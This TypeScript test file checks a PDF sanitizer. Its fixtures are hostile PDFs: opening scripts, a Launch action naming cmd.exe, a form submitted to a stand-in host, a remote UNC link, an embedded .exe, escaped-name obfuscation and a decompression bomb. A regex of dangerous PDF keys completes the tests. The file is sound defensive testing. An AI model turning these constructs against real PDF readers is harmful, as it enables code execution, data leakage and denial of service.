import { deflateSync } from 'node:zlib'
import { decodePDFRawStream, PDFDocument, PDFRawStream } from '@cantoo/pdf-lib'
import PDFKit from 'pdfkit'
import { buffer } from 'node:stream/consumers'
import { afterAll, describe, expect, test } from 'vitest'
import { HIDDEN, rawPdf, rawStream, SHOWN } from '../testing/pdf/raw-pdf.ts'
import { readPdf } from '../testing/pdf/read-pdf.ts'
import { openPdfCleaner } from './clean-pdf.ts'

const cleaner = openPdfCleaner('tests')
afterAll(() => cleaner[Symbol.asyncDispose]())
const cleanPdf = (bytes: Uint8Array) => cleaner.clean(bytes, 'letter.pdf')

/** The unpacked content of a PDF. */
async function textOf(bytes: Uint8Array): Promise<string> {
  const { context } = await PDFDocument.load(bytes)
  return context
    .enumerateIndirectObjects()
    .map(([, object]) =>
      object instanceof PDFRawStream
        ? `${object.dict.toString()} ${Buffer.from(decodePDFRawStream(object).decode()).toString('latin1')}`
        : object.toString(),
    )
    .join('\n')
}
const shown = async (bytes: Uint8Array) => (await readPdf(bytes)).pages.map(({ text }) => text)
/** Uses its own cleaner, because a refusal ends the thread. */
async function refusal(bytes: Uint8Array, given?: Parameters<typeof openPdfCleaner>[1]) {
  await using own = openPdfCleaner('tests', given)
  return own.clean(bytes, 'letter.pdf').then(
    () => undefined,
    ({ code, message }: { code: string; message: string }) => [code, message],
  )
}

const JS = `<</S/JavaScript/JS(app.alert\\("${HIDDEN}"\\))>>`
const mark = (rest: string, subtype = 'Stamp') => `<</Type/Annot/Subtype/${subtype}/Rect[0 0 9 9] ${rest}>>`
const FILE = {
  20: rawStream('/Type/EmbeddedFile', HIDDEN),
  21: '<</Type/Filespec/F(a.exe)/UF(a.exe)/EF<</F 20 0 R>>>>',
}

const HOSTILE: [what: string, Parameters<typeof rawPdf>[0]][] = [
  ['a script that runs at opening', { catalog: `/OpenAction ${JS}` }],
  ['the same in an object of its own', { catalog: '/OpenAction 10 0 R', objects: { 10: JS } }],
  ['the same in an object stream', { catalog: '/OpenAction 10 0 R', inside: { 10: JS } }],
  ['a script whose name is written with escapes', { catalog: '/Open#41ction <</S/Java#53cript/J#53(x)>>' }],
  ['a script of the document', { catalog: '/Names<</JavaScript<</Names[(a) 10 0 R]>>>>', objects: { 10: JS } }],
  ['scripts of saving and printing', { catalog: `/AA<</WS ${JS}/DP ${JS}>>` }],
  ['a script of turning to the page', { page: `/AA<</O ${JS}>>` }],
  ['a script of a mark', { page: `/Annots[${mark(`/A ${JS}/AA<</E ${JS}>>`)}]` }],
  ['a script behind another action', { page: `/Annots[${mark(`/A<</S/GoTo/D[3 0 R/Fit]/Next[${JS}]>>`)}]` }],
  [
    'scripts of a field of a form',
    {
      catalog: '/AcroForm<</Fields[10 0 R]/CO[10 0 R]/XFA 11 0 R>>',
      page: '/Annots[10 0 R]',
      objects: {
        10: mark(`/FT/Tx/T(a)/V(b)/AA<</K ${JS}/C ${JS}>>/Kids[12 0 R]`, 'Widget'),
        11: rawStream('', `<xfa><script>${HIDDEN}</script></xfa>`),
        12: mark(`/A ${JS}`, 'Widget'),
      },
    },
  ],
  ['a program that is started', { catalog: `/OpenAction<</S/Launch/F(${HIDDEN})/Win<</F(cmd.exe)>>>>` }],
  ['a link', { page: `/Annots[${mark(`/A<</S/URI/URI(javascript:${HIDDEN})>>`, 'Link')}]` }],
  ['a form that is sent', { page: `/Annots[${mark(`/A<</S/SubmitForm/F(http://x.example/${HIDDEN})>>`)}]` }],
  [
    'another document that is opened',
    { catalog: `/OpenAction<</S/GoToR/F(\\\\\\\\x.example\\\\${HIDDEN})/D[0/Fit]>>` },
  ],
  ['an attached file', { catalog: '/Names<</EmbeddedFiles<</Names[(a) 21 0 R]>>>>', objects: FILE }],
  ['a file on the page', { page: `/Annots[${mark('/FS 21 0 R', 'FileAttachment')}]`, objects: FILE }],
  ['a file that hangs on the document', { catalog: '/AF[21 0 R]', page: '/AF[21 0 R]', objects: FILE }],
  [
    'a file that hangs on a picture',
    {
      page: '/Resources<</Font<</EF 4 0 R>>/XObject<</X 10 0 R>>/Properties<</P<</AF[21 0 R]>>>>>>',
      objects: { ...FILE, 10: rawStream('/Subtype/Form/BBox[0 0 9 9]/AF[21 0 R]/Metadata 20 0 R', '') },
    },
  ],
  [
    'a film',
    { page: `/Annots[${mark(`/A<</S/Rendition/R<</C<</D 21 0 R>>>>/JS(${HIDDEN})>>`, 'Screen')}]`, objects: FILE },
  ],
  [
    'a scene with scripts',
    { page: `/Annots[${mark('/RichMediaContent<</Assets<</Names[(a) 21 0 R]>>>>', 'RichMedia')}]`, objects: FILE },
  ],
  [
    'an object that only others read',
    { catalog: '/OpenAction 10 0 R', objects: { 10: `<</S/JavaScript /JS(${HIDDEN}` } },
  ],
  ['a second catalog that came later', { objects: { 30: `<</Type/Catalog/Pages 2 0 R/OpenAction ${JS}>>` } }],
]

describe('of a PDF with', () => {
  test.each(HOSTILE)('%s nothing of it is left, but the page is', async (_what, given) => {
    const pdf = rawPdf(given)
    const clean = await cleanPdf(pdf)
    expect(await shown(clean)).toEqual([SHOWN])
    const text = await textOf(clean)
    expect(text).not.toContain(HIDDEN)
    expect(text).not.toMatch(
      /JavaScript|\/JS\b|OpenAction|\/AA\b|\/A\b|Launch|SubmitForm|GoToR|URI|Rendition|EmbeddedFile|Filespec|XFA|AcroForm|RichMedia|\/AF\b/,
    )
  })
})

test('a filled-in form looks the same, and can no longer be changed', async () => {
  const look = rawStream(
    '/Subtype/Form/BBox[0 0 100 20]/Resources<</Font<</F 4 0 R>>>>',
    'BT /F 9 Tf (Crushed box) Tj ET',
  )
  const clean = await cleanPdf(
    rawPdf({
      catalog: '/AcroForm<</Fields[10 0 R]>>',
      page: '/Annots[10 0 R]',
      objects: { 10: mark('/FT/Tx/T(what)/V(Crushed box)/AP<</N 11 0 R>>', 'Widget'), 11: look },
    }),
  )
  const text = await textOf(clean)
  expect(text).toContain('Crushed box')
  expect(text).toMatch(/\/Subtype \/Stamp/)
  expect(text).not.toMatch(/\/FT|\/V\b|Widget/)
})

test('pages keep their order, size, rotation, pictures and fonts', async () => {
  const made = new PDFKit({ size: [200, 100], margin: 10 })
  made.text('Page one, £12.50')
  made.addPage({ size: 'A4' }).text('Page two')
  made.end()
  const clean = await cleanPdf(await buffer(made))
  expect(await shown(clean)).toEqual(['Page one, £12.50', 'Page two'])
  const sizes = (await PDFDocument.load(clean)).getPages().map((page) => Math.round(page.getWidth()))
  expect(sizes).toEqual([200, 595])
  const turned = await cleanPdf(rawPdf({ page: '/Rotate 90/CropBox[10 10 200 100]' }))
  const [page] = (await PDFDocument.load(turned)).getPages()
  expect([page?.getRotation().angle, page?.getCropBox().width, page?.getMediaBox().height]).toEqual([90, 190, 200])
})

test('cleaning a PDF twice changes nothing more', async () => {
  const once = await cleanPdf(rawPdf())
  expect(await shown(await cleanPdf(once))).toEqual([SHOWN])
})

test('an encrypted PDF is refused, even if it opens without a password', async () => {
  for (const passwords of [{ ownerPassword: 'owner' }, { userPassword: 'user', ownerPassword: 'owner' }]) {
    const made = new PDFKit({ ...passwords, pdfVersion: '1.7' })
    made.text('Secret').end()
    expect(await refusal(await buffer(made))).toEqual([
      'unsupported_file',
      'letter.pdf is encrypted, so it cannot be checked: print it to a new PDF without a password, and send that.',
    ])
  }
})

test.each([
  ['a beginning and nothing else', '%PDF-1.7\n'],
  ['a text that says it is one', '%PDF-1.7 what the shopper wrote'],
  [
    'no pages',
    '%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Count 0/Kids[]>>\nendobj\ntrailer<</Root 1 0 R>>',
  ],
  [
    'pages that hold themselves',
    '%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Count 1/Kids[2 0 R]>>\nendobj\ntrailer<</Root 1 0 R>>',
  ],
  ['a hundred thousand brackets', `%PDF-1.7\n1 0 obj\n${'['.repeat(100_000)}\nendobj\n`],
])('a PDF of %s is refused in words', async (_what, text) => {
  expect(await refusal(Buffer.from(text))).toEqual([
    'unsupported_file',
    'letter.pdf cannot be read as a PDF: print it to a new PDF, or send a photo of it.',
  ])
})

test('unpacking to gigabytes or endless pages is stopped; the next file is cleaned', async () => {
  const bytes = deflateSync(Buffer.alloc(400_000_000, ' ')).toString('latin1')
  const bomb = rawPdf({
    objects: {
      40: `<</Type/ObjStm/N 1/First 9/Filter/FlateDecode/Length ${bytes.length}>>\nstream\n${bytes}\nendstream`,
    },
  })
  const doubled = Object.fromEntries(
    Array.from({ length: 30 }, (_, at) => [50 + at, `<</Type/Pages/Count 2/Kids[${51 + at} 0 R ${51 + at} 0 R]>>`]),
  )
  const pages = rawPdf({
    objects: { ...doubled, 2: '<</Type/Pages/Count 1/Kids[50 0 R]>>', 80: '<</Type/Page/Parent 2 0 R>>' },
  })
  const before = process.memoryUsage.rss()
  const [one, other, good] = await Promise.all([refusal(bomb), refusal(pages, { maxMs: 1000 }), cleanPdf(rawPdf())])
  for (const refused of [one, other])
    expect(refused).toEqual([
      'unprocessable',
      'letter.pdf takes too much to check: print it to a new PDF, or send it in parts.',
    ])
  expect(await shown(good)).toEqual([SHOWN])
  expect(process.memoryUsage.rss() - before).toBeLessThan(1_000_000_000)
})

test('a sender of many files does not delay others: senders take turns', async () => {
  await using many = openPdfCleaner('user 1')
  await using one = openPdfCleaner('user 2')
  const done: string[] = []
  const clean = (who: string, by: typeof many) => by.clean(rawPdf(), `${who}.pdf`).then(() => done.push(who))
  // As many as one sender may queue; only this sender's next file is refused.
  const all = Array.from({ length: 16 }, () => clean('many', many))
  await expect(many.clean(rawPdf(), 'more.pdf')).rejects.toMatchObject({ code: 'unavailable' })
  await Promise.all([clean('one', one), ...all])
  expect(done.indexOf('one')).toBeLessThan(3)
  expect(done).toHaveLength(17)
})
